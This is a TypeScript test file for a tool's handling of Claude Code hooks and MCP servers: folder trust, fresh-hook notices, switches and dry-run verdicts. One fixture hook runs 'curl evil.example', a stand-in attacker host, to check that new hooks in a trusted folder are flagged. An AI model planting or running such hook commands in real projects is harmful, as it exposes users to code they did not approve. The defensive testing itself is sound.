import { mkdir, readFile, rm, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Answer, ChannelName, Handlers, ReplyOf, RequestOf } from '@shared/contract';
import { createHookHandlers } from '../hooks/handlers';
import { assessWith } from './hook-windows';
import { createHookWorld, type HookWorld } from './testing/hook-world';

type HookChannel = Extract<ChannelName, `hooks.${string}`>;

let world: HookWorld;
let root = '';
let handlers: Handlers<HookChannel>;
const deny = `printf '%s' '{"hookSpecificOutput":{"hookEventName":"PreToolUse","permissionDecision":"deny","permissionDecisionReason":"no secrets"}}'`;

beforeAll(async () => {
  world = await createHookWorld();
  root = path.join(world.top, 'folder');
  await writeSettings({
    PreToolUse: [{ matcher: 'Bash', hooks: [{ type: 'command', command: 'check' }, { type: 'command' }] }],
    CwdChanged: [{ hooks: [{ type: 'command', command: 'moved' }] }],
  });
  handlers = handlersFor(() => root);
});
afterAll(() => world.close());

function handlersFor(rootOf: () => string | null): Handlers<HookChannel> {
  return createHookHandlers({ ...world.core.hooks.desk, rootOf, assess: assessWith(world.core) });
}

async function writeSettings(hooks: object): Promise<void> {
  await mkdir(path.join(root, '.claude'), { recursive: true });
  const permissions = { allow: ['Bash(npm test)'] };
  await writeFile(path.join(root, '.claude/settings.json'), JSON.stringify({ hooks, permissions }, null, 2));
}

async function ask<Name extends HookChannel>(name: Name, request: RequestOf<Name>): Promise<ReplyOf<Name>> {
  const call = handlers[name] as (request: unknown, context: object) => Promise<Answer<ReplyOf<Name>>>;
  const answer = await call(request, { windowId: 1 });
  if (!answer.ok) throw new Error(answer.error.message);
  return answer.value;
}

const subjects = async () =>
  (await ask('hooks.list', null)).hooks.map(({ subject, idle }) => [subject, idle]);
const one = (event: string, matcher: string, command: string, more: object = {}) => ({
  [event]: [{ matcher, hooks: [{ type: 'command', command, ...more }] }],
});

describe('the hooks part of the contract (HK1, HK7)', () => {
  it('a folder that is not trusted shows what it would bring, and is trusted by its path alone', async () => {
    expect(await subjects()).toEqual([
      ['check', 'The folder is not trusted yet.'],
      ['moved', 'The folder is not trusted yet.'],
    ]);
    expect((await ask('hooks.list', null)).problems).toEqual([
      {
        file: path.join(root, '.claude/settings.json'),
        line: 11,
        message: 'PreToolUse[0].hooks[1].command: Invalid input: expected string, received undefined.',
      },
    ]);
    expect(await ask('hooks.trust', null)).toMatchObject({
      root,
      trusted: false,
      asks: true,
      brings: ['Allow rules for Claude Code: Bash(npm test)'],
    });
    const [check] = (await ask('hooks.list', null)).hooks;
    await expect(ask('hooks.try', { id: check?.id ?? '', callId: 'x', event: 'PreToolUse' })).rejects.toThrow(
      'The folder is not trusted, so its hooks do not run, not even for a try. Trust it first.',
    );
    expect(await ask('hooks.setTrust', { trusted: true })).toMatchObject({
      trusted: true,
      lasting: true,
      asks: false,
      fresh: [],
    });
    const { trust } = world.core.hooks.desk;
    expect([trust.trusts(root), trust.trusts(path.join(root, 'sub')), trust.trusts(world.top)]).toEqual([
      true,
      false,
      false,
    ]);
  });

  it('a refusal is remembered and can be taken back; putting the question off lasts as long as the program', async () => {
    await ask('hooks.setTrust', { trusted: false });
    expect(await ask('hooks.trust', null)).toMatchObject({ trusted: false, refused: true, asks: false });
    const file = path.join(world.top, 'home/trusted-folders.json');
    expect(JSON.parse(await readFile(file, 'utf8'))).toEqual({ folders: [], refused: [root], seen: {} });
    await writeFile(file, '{}');
    expect(await ask('hooks.trust', null)).toMatchObject({ refused: false, asks: true });
    expect(await ask('hooks.notNow', null)).toMatchObject({ refused: false, asks: false });
    expect(JSON.parse(await readFile(file, 'utf8'))).toEqual({});
  });

  it('a hook that comes into a trusted folder runs, and is told of until it was seen', async () => {
    await ask('hooks.setTrust', { trusted: true });
    await writeSettings({ ...one('PreToolUse', 'Bash', 'check'), ...one('Stop', '', 'curl evil.example') });
    const now = await ask('hooks.trust', null);
    const fresh = now?.hooks.filter(({ id }) => now.fresh.includes(id));
    expect(fresh?.map(({ subject, idle }) => [subject, idle])).toEqual([['curl evil.example', undefined]]);
    expect(await ask('hooks.seen', null)).toMatchObject({ fresh: [] });
    await writeSettings({
      ...one('PreToolUse', 'Bash', 'check --all'),
      ...one('Stop', '', 'curl evil.example'),
    });
    expect((await ask('hooks.trust', null))?.fresh).toHaveLength(1);
  });

  it('HK1, MC1: a server that comes into a trusted folder, or changes, is told of until it was seen', async () => {
    const write = (command: string): Promise<void> =>
      writeFile(path.join(root, '.mcp.json'), JSON.stringify({ mcpServers: { late: { command } } }));
    await ask('hooks.setTrust', { trusted: true });
    await write('curl');
    expect(await ask('hooks.trust', null)).toMatchObject({ fresh: [], freshServers: ['late (curl)'] });
    expect(await ask('hooks.seen', null)).toMatchObject({ freshServers: [] });
    await write('wget');
    expect(await ask('hooks.trust', null)).toMatchObject({ freshServers: ['late (wget)'] });
    await rm(path.join(root, '.mcp.json'));
  });

  it('a folder that was trusted before that was noted begins with what it has', async () => {
    await writeFile(path.join(world.top, 'home/trusted-folders.json'), JSON.stringify({ folders: [root] }));
    expect((await ask('hooks.trust', null))?.fresh).toEqual([]);
    await writeSettings(one('Stop', '', 'other'));
    expect((await ask('hooks.trust', null))?.fresh).toHaveLength(1);
  });

  it('each hook has a switch, one that never comes says so, and an agent’s hooks are listed too', async () => {
    await writeSettings({ ...one('PreToolUse', 'Bash', 'check'), ...one('Setup', '', 'moved') });
    const agent = path.join(root, '.claude/agents/reviewer.md');
    await mkdir(path.dirname(agent), { recursive: true });
    await writeFile(
      agent,
      '---\nname: reviewer\ndescription: Reviews.\nhooks:\n  Stop:\n    - hooks:\n        - type: command\n          command: note\n---\nReview.\n',
    );
    expect(await subjects()).toEqual([
      ['check', undefined],
      ['moved', 'Setup never comes here.'],
      ['note', undefined],
    ]);
    const id = (await ask('hooks.list', null)).hooks[0]?.id ?? '';
    await ask('hooks.switch', { id, on: false });
    expect((await ask('hooks.list', null)).hooks[0]?.off).toBe(true);
    await ask('hooks.switch', { id, on: true });
    expect((await ask('hooks.list', null)).hooks[0]?.off).toBe(false);
    await rm(agent);
  });

  it('says all that would run: words without a shell, headers, variables, time', async () => {
    await writeSettings({
      Stop: [
        { hooks: [{ type: 'command', command: 'note', args: ['a b', '$(x)'], timeout: 7, async: true }] },
        {
          hooks: [
            {
              type: 'http',
              url: 'https://h.example/',
              headers: { A: 'Bearer $KEY' },
              allowedEnvVars: ['KEY'],
            },
          ],
        },
      ],
    });
    expect((await ask('hooks.list', null)).hooks).toMatchObject([
      { text: 'note', args: ['a b', '$(x)'], timeoutMs: 7000, background: true },
      {
        text: 'https://h.example/',
        headers: ['A: Bearer $KEY'],
        variables: ['KEY'],
        timeoutMs: 600_000,
        background: false,
      },
    ]);
  });
});

describe('inspector and dry run (HK7, HK8)', () => {
  it('keeps what a hook of a call was given and said, and feeds the same call to a hook that is switched off', async () => {
    const { conversationId, root: worked } = await world.turn({
      name: 'inspected',
      settings: { hooks: one('PreToolUse', 'Write', deny) },
      mode: 'full',
      steps: [
        {
          calls: [
            { name: 'Write', input: { path: 'a.txt', content: 'x' } },
            { name: 'Bash', input: { command: 'echo git' } },
          ],
        },
      ],
    });
    handlers = handlersFor(() => worked);
    const [write, bash] = world.core.store.calls.byConversation(conversationId);
    const rows = await ask('hooks.runs', {});
    expect(rows).toMatchObject([
      { event: 'PreToolUse', tool: 'Write', callId: write?.id, exitCode: 0, effect: 'denied the call' },
    ]);
    expect(rows[0]).not.toHaveProperty('stdout');
    const run = await ask('hooks.run', { id: rows[0]?.id ?? '' });
    expect(JSON.parse(run?.input ?? '')).toMatchObject({
      hook_event_name: 'PreToolUse',
      tool_input: { file_path: path.join(worked, 'a.txt') },
    });
    expect(await ask('hooks.run', { id: 'gone' })).toBeNull();
    // Another folder's window sees none of it.
    const elsewhere = await handlersFor(() => root)['hooks.runs']({}, { windowId: 2 });
    expect(elsewhere).toEqual({ ok: true, value: [] });

    expect(await ask('hooks.calls', { search: 'GIT' })).toMatchObject([
      { id: bash?.id, tool: 'Bash', outcome: 'done' },
    ]);
    const id = (await ask('hooks.list', null)).hooks[0]?.id ?? '';
    await ask('hooks.switch', { id, on: false });
    const trial = await ask('hooks.try', { id, callId: write?.id ?? '', event: 'PreToolUse' });
    expect(trial).toMatchObject({
      verdict: 'The call would be denied: no secrets.',
      tries: [{ run: { exitCode: 0 } }],
    });
    expect(trial.missed).toBeUndefined();
    expect(JSON.parse(trial.tries[0]?.answer ?? '')).toMatchObject({
      hookSpecificOutput: { permissionDecision: 'deny' },
    });
    const other = await ask('hooks.try', { id, callId: bash?.id ?? '', event: 'PreToolUse' });
    expect(other.missed).toBe('Its matcher Write does not cover Bash.');
    expect(await ask('hooks.runs', {})).toHaveLength(1);
    await expect(ask('hooks.try', { id, callId: bash?.id ?? '', event: 'Stop' })).rejects.toThrow(
      'event: Stop carries no call that a hook could be tried on.',
    );
  });

  it('says in words what a hook after the call, of a batch and of a question would do', async () => {
    const said = (json: object) => `printf '%s' '${JSON.stringify(json)}'`;
    const specific = (event: string, rest: object) => ({
      hookSpecificOutput: { hookEventName: event, ...rest },
    });
    const { conversationId, root: worked } = await world.turn({
      name: 'words',
      settings: {
        hooks: {
          ...one(
            'PostToolUse',
            'Bash',
            said({
              decision: 'block',
              reason: 'format it',
              ...specific('PostToolUse', { additionalContext: 'c' }),
            }),
            { if: 'Bash(git status)' },
          ),
          ...one(
            'PermissionRequest',
            'Bash',
            said(specific('PermissionRequest', { decision: { behavior: 'deny', message: 'not now' } })),
          ),
          ...one('PostToolBatch', '', 'cat'),
          ...one(
            'PreToolUse',
            'Nothing',
            said(specific('PreToolUse', { permissionDecision: 'ask', updatedInput: { command: 'ls' } })),
          ),
          ...one('PostToolUseFailure', '', 'exit 3'),
        },
      },
      mode: 'full',
      steps: [{ calls: [{ name: 'Bash', input: { command: 'echo one && git status' } }] }],
    });
    handlers = handlersFor(() => worked);
    const callId = world.core.store.calls.byConversation(conversationId)[0]?.id ?? '';
    const words: Record<string, string> = {};
    for (const { id, event } of (await ask('hooks.list', null)).hooks) {
      const { verdict, missed } = await ask('hooks.try', { id, callId, event });
      words[event] = missed === undefined ? verdict : `${verdict} (${missed})`;
    }
    expect(words).toEqual({
      PostToolUse: 'The model would be told: format it. The model would read more beside it.',
      PermissionRequest: 'The question would be answered with a denial: not now.',
      PostToolBatch: expect.stringContaining('Nothing would change.'),
      PreToolUse:
        'You would be asked. Its arguments would be the rewritten ones. (Its matcher Nothing does not cover Bash.)',
      PostToolUseFailure: 'Nothing would change. It gave no usable answer: It ended with exit code 3.',
    });
  });
});
